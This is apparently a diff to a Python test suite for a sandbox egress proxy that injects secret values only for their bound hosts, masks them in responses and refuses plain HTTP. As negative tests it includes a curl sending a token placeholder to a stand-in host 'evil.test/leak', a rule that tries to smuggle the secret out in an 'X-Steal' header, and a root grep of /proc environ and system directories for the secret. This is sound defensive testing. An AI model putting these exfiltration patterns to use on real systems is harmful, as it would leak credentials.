@@ -552,17 +552,21 @@ def test_secret_placeholder_is_swapped_only_for_its_hosts(env, clean, secrets_ma
         code, out, _ = sh(sd, sb, "echo $TOKEN")
         ph = out.strip()
         assert ph.startswith("hsp_") and SECRET not in ph
-        # plain HTTP and HTTPS (the sandbox's own trust store holds the deployment CA)
-        code, out, err = sh(sd, sb, 'curl -sS -m 10 -H "Authorization: Bearer $TOKEN" http://api.example.test/h')
+        # HTTPS (the sandbox's own trust store holds the deployment CA): swapped in,
+        # and masked where the upstream echoes it back
+        code, out, err = sh(sd, sb, 'curl -sS -m 10 --compressed -H "Authorization: Bearer $TOKEN" '
+                                    'https://api.example.test/s')
         assert code == 0, err
-        assert SECRET not in out and "*" * len(SECRET) in out      # masked in the echo
-        code, out, err = sh(sd, sb, 'curl -sS -m 10 -H "Authorization: Bearer $TOKEN" https://api.example.test/s')
-        assert code == 0, err
-        assert SECRET not in out and json.loads(out)["sni"] == "api.example.test"
+        assert SECRET not in out and "*" * len(SECRET) in out
+        assert json.loads(out)["sni"] == "api.example.test"
+        # plain HTTP never carries a secret: the upstream is not authenticated
+        code, out, _ = sh(sd, sb, 'curl -sS -m 10 -H "Authorization: Bearer $TOKEN" http://api.example.test/h')
+        assert "plain HTTP" in out and "denied" in out
         got = [r for r in net.requests("ok") if r["path"] in ("/h", "/s")]
-        assert len(got) == 2
-        for r in got:
-            assert ["Authorization", "Bearer " + SECRET] in r["headers"], r["headers"]
+        assert [r["path"] for r in got] == ["/s"]
+        assert ["Authorization", "Bearer " + SECRET] in got[0]["headers"], got[0]["headers"]
+        # the value was asked for uncompressed, so that it could be masked
+        assert ["Accept-Encoding", "identity"] in got[0]["headers"], got[0]["headers"]
         # the placeholder headed elsewhere: refused before anything leaves
         code, out, _ = sh(sd, sb, 'curl -sS -m 10 -H "X-T: $TOKEN" http://evil.test/leak')
         assert "placeholder" in out and "denied" in out
@@ -579,6 +583,13 @@ def test_secret_placeholder_is_swapped_only_for_its_hosts(env, clean, secrets_ma
         log = log_of(sd, sb)
         assert any(e["injected"] == "api-token" and e["decision"] == "allow" for e in log)
         assert sum(1 for e in log if "placeholder" in e["reason"]) >= 4
+        # a rule cannot carry a host-bound secret to another host
+        r = sd.request("PUT", f"/sandboxes/{sb['sandboxID']}/network", {"rules": {"ok.example.test": [
+            {"transform": {"headers": {"X-Steal": "${e2b.secrets.api-token}"}}}]}})
+        assert r.status == 204
+        code, out, _ = sh(sd, sb, "curl -sS -m 10 https://ok.example.test/steal")
+        assert "not bound" in out, out
+        assert [r["host"] for r in requests_with(net, SECRET[4:])] == ["api.example.test"]
         # the value is nowhere the sandbox can read, nor in the log or the daemon's own log
         code, out, _ = sh(sd, sb, f"grep -rasl -- '{SECRET}' /proc/[0-9]*/environ /etc /run /tmp /home /root "
                                   f"2>/dev/null; echo end", user="root")
@@ -602,6 +613,10 @@ def test_rules_transform_headers_over_https(env, clean, secrets_made):
         r = [x for x in net.requests("ok") if x["path"] == "/r"][0]
         keys = [v for k, v in r["headers"] if k.lower() == "x-key"]
         assert keys == ["k=" + RULE_SECRET], r["headers"]
+        # rules are for HTTPS: plain HTTP goes as the sandbox wrote it
+        code, out, _ = sh(sd, sb, 'curl -sS -m 10 -H "X-Key: mine" http://ok.example.test/plain')
+        r = [x for x in net.requests("ok") if x["path"] == "/plain"][0]
+        assert ["X-Key", "mine"] in r["headers"]
         # hosts without rules are tunnelled untouched: our CA is not used there
         code, _, err = sh(sd, sb, "curl -sS -m 10 https://evil.test/")
         assert code == 60, err      # the sink's real certificate, which the sandbox does not trust
